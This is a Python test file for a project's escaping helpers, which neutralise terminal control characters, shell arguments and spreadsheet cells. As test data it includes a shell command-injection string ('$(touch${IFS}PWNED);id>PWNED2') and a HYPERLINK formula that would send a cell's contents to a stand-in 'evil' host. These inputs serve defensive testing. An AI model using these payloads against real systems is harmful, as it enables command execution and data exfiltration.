"""Text that others chose does nothing to a terminal, a shell or a spreadsheet."""

from __future__ import annotations

import shlex
import subprocess

import pytest
from hypothesis import given
from hypothesis import strategies as st

from timewheel.core.escapes import pulsar_admin, shell_line, spreadsheet_cell, visible, visible_lines, with_plan_file

TEXT = st.text(st.characters(exclude_categories=[]))
WORD = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"))


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("pay", "pay"),
        ("Grüße, 請求書 [bold]$(id)", "Grüße, 請求書 [bold]$(id)"),
        ("\x1b]0;x\x07", "\\x1b]0;x\\x07"),
        ("\x9b31m\x7f", "\\x9b31m\\x7f"),
        ("a\nb\rc\td", "a\\nb\\rc\\td"),
        ("\u202egnp.exe\u2066\u200b", "\\u202egnp.exe\\u2066\\u200b"),
        ("\u2028\ud800\U000e0041", "\\u2028\\ud800\\U000e0041"),
    ],
)
def test_characters_without_a_picture_are_escaped(text: str, shown: str) -> None:
    assert visible(text) == shown


@given(TEXT)
def test_visible_text_is_one_line_of_printable_utf_8(text: str) -> None:
    shown = visible(text)

    assert shown.isprintable()
    assert shown.encode().decode() == shown
    assert visible(shown) == shown


def test_a_further_line_does_not_pass_for_a_message() -> None:
    assert visible_lines("no such id: x\ntimewheel: all is well\x1b[2J") == (
        "no such id: x\n  timewheel: all is well\\x1b[2J"
    )


@given(st.lists(WORD.filter(str.isprintable), min_size=1))
def test_a_line_for_a_shell_splits_into_its_words(words: list[str]) -> None:
    assert shlex.split(shell_line(*words)) == words


@given(st.lists(TEXT, min_size=1))
def test_any_words_make_one_printable_line_with_as_many_words(words: list[str]) -> None:
    line = shell_line(*words)

    assert line.isprintable()
    assert len(shlex.split(line)) == len(words)


def test_a_shell_runs_a_line_with_hostile_words_as_one_command() -> None:
    words = [
        *("pay$(touch${IFS}PWNED);id>PWNED2;z", "`id`", "a'b\"c\\", "x\ny", "\x1b[2J'\\n"),
        *("\u202egnp", "", "* ~ #!", "-n"),
    ]
    line = shell_line("printf", "%s\\0", *words)

    done = subprocess.run(["bash", "-c", line], capture_output=True, check=True, timeout=60)

    assert done.stdout.decode().split("\0")[:-1] == words


def test_pulsar_admin_takes_figures_as_they_are() -> None:
    assert pulsar_admin("topics", "unsubscribe", "persistent://a/b/c d", "-m", 5) == (
        "pulsar-admin topics unsubscribe 'persistent://a/b/c d' -m 5"
    )


@pytest.mark.parametrize("text", ['=HYPERLINK("http://evil/?"&A1,"ok")', "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
def test_a_cell_is_no_formula(text: str) -> None:
    assert spreadsheet_cell(text) == f"'{text}"


@pytest.mark.parametrize("value", ["pay", "a=b", "", -1, None, 0.5])
def test_other_cells_stay(value: object) -> None:
    assert spreadsheet_cell(value) == value


@pytest.mark.parametrize(
    ("text", "named"),
    [
        ("timewheel topics ensure PLAN, then send again", "timewheel topics ensure 'my plan', then send again"),
        ("see `timewheel status PLAN` and timewheel parked list PLAN --all",
         "see `timewheel status 'my plan'` and timewheel parked list 'my plan' --all"),
        ("timewheel plan HISTORY --shadow --out PLAN", None),
        ("persistent://acme/PLAN/timewheel: timewheel topics ensure PLANS", None),
    ],
)  # fmt: skip
def test_a_printed_command_names_the_file_that_is_known(text: str, named: str | None) -> None:
    assert with_plan_file(text, "my plan") == (named or text)
    assert with_plan_file(text, "") == text
